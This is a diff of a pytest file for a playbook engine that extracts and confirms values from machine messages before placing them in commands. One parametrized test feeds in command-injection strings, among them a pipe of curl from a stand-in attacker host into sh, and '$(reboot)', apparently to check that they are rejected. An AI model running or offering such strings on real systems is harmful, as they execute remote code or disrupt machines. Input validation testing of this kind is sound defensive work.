@@ -26,11 +26,13 @@ def test_the_changing_part_of_a_message_becomes_a_value():
 
 def test_what_was_caught_is_confirmed_before_it_fills_a_command():
     now = climbed(with_message(), FAILS, said="ARM 3 NOT HOME, CODE E-7")
-    assert (now.place, now.asked.id, now.suggested, now.for_commands) == ("fact", "arm", "3", {"model": "GR4"})
-    first = answers(now)[0]
+    assert (now.place, now.asked.id, now.suggested, now.for_commands) == ("step", "arm", "3", {"model": "GR4"})
+    before = climbed(with_message(), FAILS, said=now.started.said, rules=1)
+    assert (before.place, before.asked.id) == ("fact", "arm")
+    first = answers(before)[0]
     assert (first.key, first.label, first.move) == ("1", "“3”, as was said", c.FactGiven(fact="arm", value="3"))
     now = climbed(with_message(), FAILS, first.move, c.FactGiven(fact="code", value="E-8"), said=now.started.said)
-    assert (now.place, now.for_commands) == ("step", {"model": "GR4", "arm": "3", "code": "E-8"})
+    assert (now.asked_inside, now.for_commands) == ((), {"model": "GR4", "arm": "3", "code": "E-8"})
 
 
 @pytest.mark.parametrize("said", ["ARM 3; curl evil.example|sh NOT HOME", "ARM -rf NOT HOME", "ARM $(reboot) NOT HOME"])
@@ -72,7 +74,7 @@ def test_values_have_the_pattern_range_and_length_of_their_input(asks, fit, unfi
 
 
 def test_a_case_begun_before_values_were_confirmed_goes_on_as_it_began():
-    started = c.Started(said="ARM 3 NOT HOME, CODE E-7", facts={"model": "GR4"}, trusts_speech=True)
+    started = c.Started(said="ARM 3 NOT HOME, CODE E-7", facts={"model": "GR4"}, trusts_speech=True, rules=1)
     moves = [started, FAILS, c.Answered(step="fix", outcome="no-change")]
     now = climb(with_message(), [c.ClimbEvent(at=NOON, who=1, move=move) for move in moves])
     assert now.for_commands == {"model": "GR4", "arm": "3", "code": "E-7"}
@@ -84,8 +86,8 @@ def test_a_case_begun_before_values_were_confirmed_goes_on_as_it_began():
 
 def test_a_part_that_nobody_told_is_asked_for():
     now = climbed(with_message(), FAILS, said="ARM 3 NOT HOME")
-    now = apply(now, c.ClimbEvent(at=NOON, who=1, move=answers(now)[0].move))
-    assert (now.place, now.asked.id) == ("fact", "code")
+    now = apply(now, c.ClimbEvent(at=NOON, who=1, move=c.FactGiven(fact="arm", value="3")))
+    assert (now.place, now.asked.id) == ("step", "code")
     assert now.asked.ask == "What stands for “code” in the message “CODE …”?"
     assert climbed(with_message(), FAILS, c.FactGiven(fact="arm", value="1")).asked.id == "code"
 
@@ -101,7 +103,7 @@ def with_sum() -> Playbook:
 
 def test_a_computed_value_is_never_asked_for_but_what_it_waits_for_is():
     now = climbed(with_sum(), FAILS)
-    assert (now.place, now.asked.id) == ("fact", "speed")
+    assert (now.place, now.asked.id) == ("step", "speed")
     now = climbed(with_sum(), FAILS, c.FactGiven(fact="speed", value="90"))
     assert (now.place, now.for_commands["slower"], now.known["slower"]) == ("step", "85", "85")
 
